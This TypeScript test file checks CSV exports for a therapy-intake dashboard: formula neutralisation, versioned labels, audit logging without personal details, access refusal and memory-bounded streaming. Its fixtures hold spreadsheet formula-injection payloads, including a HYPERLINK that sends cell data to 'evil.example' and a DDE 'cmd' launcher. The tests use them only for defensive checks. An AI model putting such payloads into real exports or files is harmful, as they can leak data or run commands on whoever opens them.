import v8 from "node:v8";
import { runInNewContext } from "node:vm";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as queueCsv } from "@/app/(therapist)/dashboard/export.csv/route";
import { GET as answersCsv } from "@/app/(therapist)/dashboard/intakes/[id]/answers.csv/route";
import { getIntakeById } from "@/lib/intake/intake-record";
import { questionnaireFor } from "@/lib/questionnaire";
import { listReviewQueue } from "@/lib/review/queue";
import { queueCsvColumns, queueCsvRows } from "@/lib/csv/queue-csv";
import { csvStream } from "@/lib/csv/writer";
import type { QueueRecord } from "@/db/repositories/intake-queue";
import { useMigratedDatabase } from "../support/database";
import { schema, testDb } from "../support/either-database";
import { postIntake } from "../support/api";
import { newTherapist, signIn } from "../support/therapist-session";
import { csvRecords, readAll, readCsv } from "../support/csv-read";
import { fullIntake, fullIntakeV2 } from "../fixtures/intakes";

useMigratedDatabase();

const TZ = "America/Toronto";
const ORIGIN = "http://localhost:3000";
// Typed into free-text answers as a person could; the form trims surrounding whitespace, so a leading tab or CR is stored without it.
const FORMULA_ANSWERS = {
  goals: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  questions_other: "+1",
  family_doctor: "-2+3",
  prescriber: "@SUM(A1:A9)",
  region: "\t=1+1",
  emergency_contact_name: "\r=cmd|' /C calc'!A0",
};
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

let session: Headers;
let formulaId = "";
let v1Id = "";
let urgentId = "";
const send = async (body: unknown) => {
  const r = await postIntake(body);
  if (r.status !== 201) throw new Error(JSON.stringify(r.body));
  return r.body.id as string;
};

beforeAll(async () => {
  session = await signIn(await newTherapist("csv"));
  formulaId = await send(fullIntakeV2({ ...FORMULA_ANSWERS, full_name: "Ñandú Peña-Éclair", email: "nandu.pena@example.org" }, { submittedAt: undefined }));
  v1Id = await send(fullIntake({ full_name: "Zoë Vieira" }, { submittedAt: undefined }));
  urgentId = await send(fullIntakeV2({ full_name: "Uma Urgent", phq9_9: 2, si_thoughts_past_month: "yes", si_intent: "unsure", si_plan: "no", lethal_means_access: ["none"], safety_plan: "yes" }, { submittedAt: undefined }));
});

const get = (path: string, headers: Headers | undefined = session) => new Request(`${ORIGIN}${path}`, { headers: headers ?? {} });
const answersOf = async (id: string, headers?: Headers) => answersCsv(get(`/dashboard/intakes/${id}/answers.csv`, headers), { params: Promise.resolve({ id }) });
const auditRows = async () => testDb().select().from(schema.auditEvents);

describe("one intake's answers as CSV", () => {
  it("neutralises answers that look like formulas, and names and accents read back as typed", async () => {
    const response = await answersOf(formulaId);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("cache-control")).toBe("no-store");
    const stored = (await getIntakeById(formulaId))!;
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="intake-answers-${stored.reference}.csv"`);
    const bytes = await readAll(response.body!);
    const { bom, rows } = readCsv(bytes);
    expect(bom).toBe(true);
    expect(rows[0]).toEqual(["item_id", "label", "answer"]);
    const answer = Object.fromEntries(rows.slice(1).map(([id, , a]) => [id, a]));
    for (const id of Object.keys(FORMULA_ANSWERS)) {
      const typed = String(stored.answers[id as keyof typeof stored.answers]);
      expect(FORMULA_START.test(typed), `${id} as stored`).toBe(true);
      expect(answer[id]).toBe(`'${typed}`);
    }
    // No cell anywhere in the file begins like a formula.
    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(answer.full_name).toBe("Ñandú Peña-Éclair");
  });

  it("words each answer by the intake's own questionnaire version, leaves hidden items out and numbers repeating rows", async () => {
    const v2 = csvRecords(await readAll((await answersOf(formulaId)).body!));
    const v1 = csvRecords(await readAll((await answersOf(v1Id)).body!));
    const label = (version: string, id: string) => questionnaireFor(version).sections.flatMap((s) => s.items).find((i) => i.id === id)!.label;
    // Asked only in version 2.
    expect(v2.find((r) => r.item_id === "rapid_cycling")).toMatchObject({ label: label("2", "rapid_cycling"), answer: "No" });
    expect(v1.some((r) => r.item_id === "rapid_cycling")).toBe(false);
    // An option label, not its code.
    expect(v1.find((r) => r.item_id === "si_thoughts_past_month")).toMatchObject({ label: label("1", "si_thoughts_past_month"), answer: "No" });
    // Hidden by the branching (no thoughts of suicide: intent is never asked).
    expect(v1.some((r) => r.item_id === "si_intent")).toBe(false);
    const trials = v1.filter((r) => r.item_id!.startsWith("past_treatment_trials["));
    expect(trials[0]).toMatchObject({ item_id: "past_treatment_trials[1].treatment" });
    expect(trials[0]!.label).toContain("Treatment 1");
    expect(new Set(trials.map((r) => r.item_id)).size).toBe(trials.length);
  });

  it("is audited as a download without anything about the person, and refused without a session or for an unknown intake", async () => {
    await answersOf(v1Id);
    const events = (await auditRows()).filter((e) => e.action === "intake.download" && e.intakeId === v1Id);
    expect(events.length).toBeGreaterThan(0);
    expect(JSON.parse(String(events.at(-1)!.detail))).toMatchObject({ document: "answers_csv" });
    expect(JSON.stringify(await auditRows())).not.toMatch(/Zoë|Vieira|Ñandú|HYPERLINK|example\.org/);
    const anonymous = await answersOf(v1Id, new Headers());
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).not.toContain("Zoë");
    expect((await answersOf("0".repeat(26))).status).toBe(404);
  });
});

describe("the review queue as CSV", () => {
  const exportQueue = async (query: string, headers?: Headers) => queueCsv(get(`/dashboard/export.csv${query}`, headers));

  it("holds the rows the dashboard shows for the same filters, in the same order", async () => {
    for (const query of ["", "?triage=urgent", "?status=new&triage=needs_clearance", "?from=2000-01-01&to=2000-01-02"]) {
      const response = await exportQueue(query);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="review-queue-\d{4}-\d{2}-\d{2}\.csv"$/);
      const filter = Object.fromEntries(new URLSearchParams(query));
      const shown = await listReviewQueue(filter, undefined, 100, TZ, { userId: "u", email: "e@clinic.example", ipAddress: null });
      expect(csvRecords(await readAll(response.body!)).map((r) => r.reference)).toEqual(shown.rows.map((r) => r.reference));
    }
    const urgent = csvRecords(await readAll((await exportQueue("?triage=urgent")).body!));
    expect(urgent.map((r) => r.triage)).toEqual(["urgent"]);
    expect(urgent[0]).toMatchObject({ status: "new", urgent_not_acknowledged: "yes", phq9_item9: "2" });
    expect(urgent[0]!.consideration_ids!.split("; ").length).toBeGreaterThan(0);
  });

  it("leaves names and contact details out unless the box is ticked, and the audit says which", async () => {
    const without = await readAll((await exportQueue("")).body!);
    const header = readCsv(without).rows[0]!;
    expect(header).not.toContain("full_name");
    expect(header).not.toContain("email");
    expect(Buffer.from(without).toString("utf8")).not.toMatch(/Ñandú|Uma Urgent|nandu\.pena|Zoë/);
    const withNames = csvRecords(await readAll((await exportQueue("?identifying=yes")).body!));
    expect(withNames.find((r) => r.email === "nandu.pena@example.org")).toMatchObject({ full_name: "Ñandú Peña-Éclair" });
    const exports = (await auditRows()).filter((e) => e.action === "intake.list_export").map((e) => JSON.parse(String(e.detail)));
    expect(exports.at(-2)).toMatchObject({ format: "csv", identifying: false, rows: 3 });
    expect(exports.at(-1)).toMatchObject({ format: "csv", identifying: true, rows: 3 });
    expect(JSON.stringify(await auditRows())).not.toMatch(/Ñandú|Uma Urgent|nandu\.pena/);
  });

  it("refuses a filter that is not valid (naming it) rather than exporting more, and callers without a session", async () => {
    const bad = await exportQueue("?triage=urgent&from=2026-02-30");
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors[0]).toMatchObject({ item: "from" });
    expect((await exportQueue("?identifying=on")).status).toBe(400);
    const anonymous = await exportQueue("?identifying=yes", new Headers());
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).not.toMatch(/Ñandú|Uma/);
  });
});

describe("streaming", () => {
  it("writes 100,000 queue rows while the heap (after GC) grows by a bounded amount, far below the file's size", async () => {
    const TOTAL = 100_000;
    const assessment = (await getIntakeById(urgentId))!.assessment;
    const base = { contact: { full_name: "Ñandú Peña-Éclair", preferred_name: "Nan", email: "nandu.pena@example.org", phone: "+1 416 555 0100" }, assessment, status: "new", triage: "urgent", needsAcknowledgement: true, triageRank: 4 } as const;
    async function* records(): AsyncGenerator<QueueRecord> {
      for (let i = 0; i < TOTAL; i++) yield { ...base, contact: { ...base.contact }, id: `id-${i}`, reference: `KT-${String(i).padStart(4, "0")}-TEST`, receivedAt: new Date(1_800_000_000_000 - i * 60_000).toISOString(), submittedAt: "2026-11-01T15:00:00.000Z" };
    }
    // What stays reachable, not garbage awaiting collection: the heap after a full GC, sampled as the file is read.
    v8.setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    const reader = csvStream(queueCsvColumns(true), queueCsvRows(records(), TZ)).getReader();
    gc();
    const start = process.memoryUsage().heapUsed;
    let peak = 0;
    let bytes = 0;
    let lines = 0;
    let chunks = 0;
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
      bytes += chunk.value.byteLength;
      if (++chunks % 100 === 0) {
        gc();
        peak = Math.max(peak, process.memoryUsage().heapUsed - start);
      }
      const buffer = Buffer.from(chunk.value.buffer, chunk.value.byteOffset, chunk.value.byteLength);
      for (let at = buffer.indexOf(0x0a); at !== -1; at = buffer.indexOf(0x0a, at + 1)) lines++;
    }
    console.log(`streamed ${TOTAL} rows, ${(bytes / 1048576).toFixed(1)} MB; peak heap growth ${(peak / 1048576).toFixed(1)} MB`);
    expect(lines).toBe(TOTAL + 1);
    // The file is ~26 MB; held whole (as bytes or strings) the heap would grow by at least that.
    expect(bytes).toBeGreaterThan(20 * 1024 * 1024);
    // A generous bound: a few pages of rows and csv-stringify's buffers (measured: under 1 MB).
    expect(peak).toBeLessThan(16 * 1024 * 1024);
    expect(peak).toBeLessThan(bytes / 2);
  }, 120_000);
});
